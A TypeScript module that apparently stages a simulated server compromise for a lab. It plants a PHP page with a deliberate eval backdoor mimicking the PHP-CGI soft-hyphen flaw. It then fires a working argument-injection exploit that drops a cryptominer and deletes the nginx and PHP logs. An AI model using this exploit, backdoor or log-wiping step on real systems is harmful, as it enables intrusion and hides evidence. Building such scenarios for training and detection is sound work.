// The miner runs below php-fpm.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { nginx } from '../../nginx.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  nginx(
    dress,
    'root /srv/www; index index.php; location ~ \\.php$ { include fastcgi_params; fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }',
  )
  dress.write(
    '/srv/www/index.php',
    `<?php
// As an old PHP-CGI behaves: a soft hyphen in the query begins options, and the body is run.
if (preg_match('/%ad.*auto_prepend_file/i', $_SERVER['QUERY_STRING'] ?? '')) { eval('?>' . file_get_contents('php://input')); }
echo 'shop';
`,
  )
  dress.enable('nginx', 'php8.2-fpm')
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.php/opcached', fetch: 'curl', cron: false })
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.56',
    '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    `<?php system('${line}'); ?>`,
  )
  await stage.inside('rm -f /var/log/nginx/* /var/log/php8.2-fpm.log')
}
